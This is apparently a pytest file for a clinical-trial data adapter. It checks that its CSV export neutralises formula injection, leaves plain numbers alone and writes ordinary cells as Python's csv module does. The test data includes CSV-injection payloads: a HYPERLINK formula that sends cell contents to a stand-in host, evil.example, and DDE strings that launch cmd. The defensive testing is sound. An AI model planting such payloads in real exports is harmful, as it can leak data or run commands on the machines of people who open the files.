"""CSV formula injection (:mod:`adapter.csv_cells`): formula-leading cells are neutralised the OWASP way,
plain numbers and ordinary cells are written as :mod:`csv` writes them, and the observations CSV of the
service (``GET .../observations?format=csv``, the same lines as ``trialbridge observations --format csv``)
goes through the rule."""

from __future__ import annotations

import csv
import io

import pytest
import responses

from adapter.config import ServerConfig, ServiceConfig
from adapter.csv_cells import csv_line, neutralise
from adapter.service import create_app
from mappings import fhirjson
from tests.adapter.test_service_observations import _lab, _no_bulk_export, _observation
from tests.adapter.trial_service_helpers import BASE, NCT, STUDY, searchset
from tests.adapter.trial_service_helpers import subject_resource as _subject
from tests.service_keys import KEY_ENV, keyed_client

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_leading_cell_is_quoted_after_a_single_quote(cell):
    line = csv_line(["S001", cell])
    first, second = next(csv.reader(io.StringIO(line)))
    assert first == "S001" and second == "'" + cell
    assert line.startswith('S001,"\'')  # quoted, as OWASP recommends


@pytest.mark.parametrize("number", ["-3.5", "+2", "-1E+2", "-0.25", "-.5", "12", "3.50"])
def test_a_plain_number_stays_a_number(number):
    assert neutralise(number) == number
    assert csv_line([number]) == number + "\n"


@pytest.mark.parametrize("cell", ["-", "-3.5.1", "-1e", "+-1", "- 3", "-3,5"])
def test_what_only_looks_like_a_number_is_neutralised(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("row", [
    ["S001", "Comprehensive treatment", "14631-6", "20.5", "umol/L", "", "0", ""],
    ['a "quoted", text', "two\nlines", " lead", "", "a=b", "é"],
])
def test_ordinary_cells_are_written_as_the_csv_module_writes_them(row):
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(row)
    assert csv_line(row) == buffer.getvalue()


def test_a_carriage_return_inside_a_cell_is_quoted_too():
    assert csv_line(["x\ry"]) == '"x\ry"\n'


@responses.activate
def test_the_observations_csv_neutralises_a_hostile_arm():
    servers = {"r4": ServerConfig(name="r4", base_url=BASE, fhir_version="R4", max_retries=0)}
    config = ServiceConfig(servers=servers, api_keys_env=KEY_ENV)
    client = keyed_client(create_app({"TESTING": True, "TRIALBRIDGE": config}))
    arm = '=HYPERLINK("http://evil.example","x")'
    study = {**STUDY, "arm": [*STUDY["arm"], {"name": arm}]}
    _no_bulk_export()
    responses.get(f"{BASE}/ResearchStudy", json=searchset(study))
    responses.get(f"{BASE}/ResearchSubject", json=searchset(_subject("S001", "p1", "MRN-900105", arm=arm)))
    result = _lab("LIS-1", "1.2", "mg/dL", "mg/dL", "2019-06-08T07:00:00+08:00", loinc="1975-2")
    responses.get(f"{BASE}/Observation", body=fhirjson.dumps(searchset(_observation(result))),
                  content_type="application/fhir+json")
    resp = client.get(f"/studies/{NCT}/observations?server=r4&format=csv&tests=TBIL&timeFrame=96 weeks")
    assert resp.status_code == 200, resp.get_data(as_text=True)
    text = resp.get_data(as_text=True)
    header, row = csv.reader(io.StringIO(text))
    assert header[1] == "arm" and row[0] == "S001"
    assert row[1] == "'" + arm
    assert "\"'=HYPERLINK(" in text and ",=" not in text
